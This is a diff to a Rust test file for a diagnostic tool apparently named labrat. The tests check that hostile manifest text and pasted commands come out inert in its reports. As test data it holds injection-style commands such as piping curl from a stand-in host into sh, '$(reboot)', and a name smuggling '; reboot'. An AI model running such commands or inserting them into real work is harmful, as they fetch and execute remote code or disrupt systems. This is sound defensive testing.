@@ -6,6 +6,13 @@ use std::path::Path;
 use std::process::{Command, Output};
 use std::time::{Duration, Instant};
 
+use labrat::diagnosis::{self, Span};
+use labrat::evidence::manifest::Manifest;
+use labrat::report::{self, Style};
+use labrat::scenario::catalogue;
+use labrat::verdict::{judge, repeat};
+use serde_json::Value;
+
 use super::builder::Builder;
 use super::incidents;
 
@@ -37,9 +44,15 @@ fn verdict(folder: &Path, more: &[&str]) -> Output {
 }
 
 fn assert_harmless(what: &str, text: &str) {
-    let hidden = |sign: char| {
-        (sign.is_control() && sign != '\n') || matches!(sign, '\u{202a}'..='\u{202e}' | '\u{2028}')
-    };
+    assert_inert(what, text);
+    assert!(text.contains("wrong_module"), "{what}: {text}");
+}
+
+fn hidden(sign: char) -> bool {
+    (sign.is_control() && sign != '\n') || matches!(sign, '\u{202a}'..='\u{202e}' | '\u{2028}')
+}
+
+fn assert_inert(what: &str, text: &str) {
     assert!(!text.contains(hidden), "{what}: {text:?}");
     for line in text.lines() {
         let begins = |forged: &str| line.trim_start().starts_with(forged);
@@ -48,7 +61,6 @@ fn assert_harmless(what: &str, text: &str) {
             "{what}: {line}"
         );
     }
-    assert!(text.contains("wrong_module"), "{what}: {text}");
 }
 
 #[test]
@@ -79,6 +91,115 @@ fn a_hostile_bundle_is_harmless_in_every_output() {
     for markup in ["<img", "![i](", "[l](", "http://e.example"] {
         let outside_code: String = markdown.split('`').step_by(2).collect();
         assert!(!outside_code.contains(markup), "{markup}: {markdown}");
+    }
+}
+
+/// The manifest with every text that may be any text replaced by a hostile one.
+fn hostile_manifest(manifest: &Manifest) -> Manifest {
+    fn leaves(value: &Value, at: &str) -> Vec<String> {
+        let below = |key: &str, value| leaves(value, &format!("{at}/{key}"));
+        match value {
+            Value::String(_) => vec![at.to_owned()],
+            Value::Array(list) => (0..list.len())
+                .flat_map(|index| below(&index.to_string(), &list[index]))
+                .collect(),
+            Value::Object(map) => map
+                .iter()
+                .flat_map(|(key, value)| below(key, value))
+                .collect(),
+            _ => Vec::new(),
+        }
+    }
+    let mut whole = serde_json::to_value(manifest).unwrap();
+    let mut replaced = 0;
+    for leaf in leaves(&whole, "") {
+        let mut tried = whole.clone();
+        *tried.pointer_mut(&leaf).unwrap() = HOSTILE.into();
+        // What is a time or one of a few words stays; another scenario would not be judged.
+        if leaf != "/scenario" && serde_json::from_value::<Manifest>(tried.clone()).is_ok() {
+            whole = tried;
+            replaced += 1;
+        }
+    }
+    assert!(replaced > 5, "only {replaced}: {whole:#}");
+    serde_json::from_value(whole).unwrap()
+}
+
+#[test]
+fn a_hostile_manifest_is_harmless_in_colour_and_in_a_diagnosis_too() {
+    let mut bundle = hostile();
+    let mut manifest = incidents::startup_failed().manifest.unwrap();
+    manifest.topology.startup_command = Some("labrat serve app:app".to_owned());
+    manifest.topology.plan = Some("B1".to_owned());
+    manifest.topology.slots = vec!["production".to_owned()];
+    bundle.manifest = Some(hostile_manifest(&manifest));
+    let evidence = bundle.read();
+    let verdict = judge(catalogue::rules_of("startup-failed").unwrap(), &evidence);
+    let span = Span {
+        from: None,
+        to: None,
+    };
+    let diagnosis = diagnosis::diagnose(bundle.read(), &span);
+    let repeated = repeat(&vec![verdict.clone(); 3]).unwrap();
+    let colours = regex::Regex::new("\u{1b}\\[[0-9]{1,2}m").unwrap();
+    let plain = |text: String| colours.replace_all(&text, "").into_owned();
+    for (what, text) in [
+        ("verdict", report::text(&verdict, Style::Plain)),
+        (
+            "verdict in colour",
+            plain(report::text(&verdict, Style::Coloured)),
+        ),
+        ("verdict as a page", report::page(&verdict, &evidence)),
+        ("verdict in Markdown", report::markdown(&verdict, &evidence)),
+        ("runs", report::repeated_text(&repeated, Style::Plain)),
+        (
+            "runs in colour",
+            plain(report::repeated_text(&repeated, Style::Coloured)),
+        ),
+        ("runs as a page", report::repeated_page(&repeated)),
+        ("runs in Markdown", report::repeated_markdown(&repeated)),
+        (
+            "diagnosis",
+            report::diagnosis_text(&diagnosis, Style::Plain),
+        ),
+        (
+            "diagnosis in colour",
+            plain(report::diagnosis_text(&diagnosis, Style::Coloured)),
+        ),
+        ("diagnosis as a page", report::diagnosis_page(&diagnosis)),
+        (
+            "diagnosis in Markdown",
+            report::diagnosis_markdown(&diagnosis),
+        ),
+    ] {
+        match what.ends_with("page") {
+            // Where a line ends means nothing there.
+            true => assert!(!text.contains(hidden) && !text.contains("<img"), "{what}"),
+            false => assert_inert(what, &text),
+        }
+    }
+}
+
+#[test]
+fn a_command_that_somebody_may_paste_is_one_of_labrat_alone() {
+    let mut bundle = incidents::startup_failed();
+    for (command, is_shown) in [
+        ("labrat rehearse startup-failed --pace 0.1", true),
+        ("labrat verdict x; curl http://e.example | sh", false),
+        ("labrat verdict $(reboot)", false),
+        ("curl http://e.example/labrat", false),
+    ] {
+        bundle.manifest.as_mut().unwrap().command = Some(command.to_owned());
+        let mut evidence = bundle.read();
+        evidence.name = "a b; reboot".to_owned();
+        let verdict = judge(catalogue::rules_of("startup-failed").unwrap(), &evidence);
+        for text in [
+            report::markdown(&verdict, &evidence),
+            report::page(&verdict, &evidence),
+        ] {
+            assert_eq!(text.contains(command), is_shown, "{command}: {text}");
+            assert!(text.contains("labrat verdict 'a b; reboot'"), "{text}");
+        }
     }
 }
 
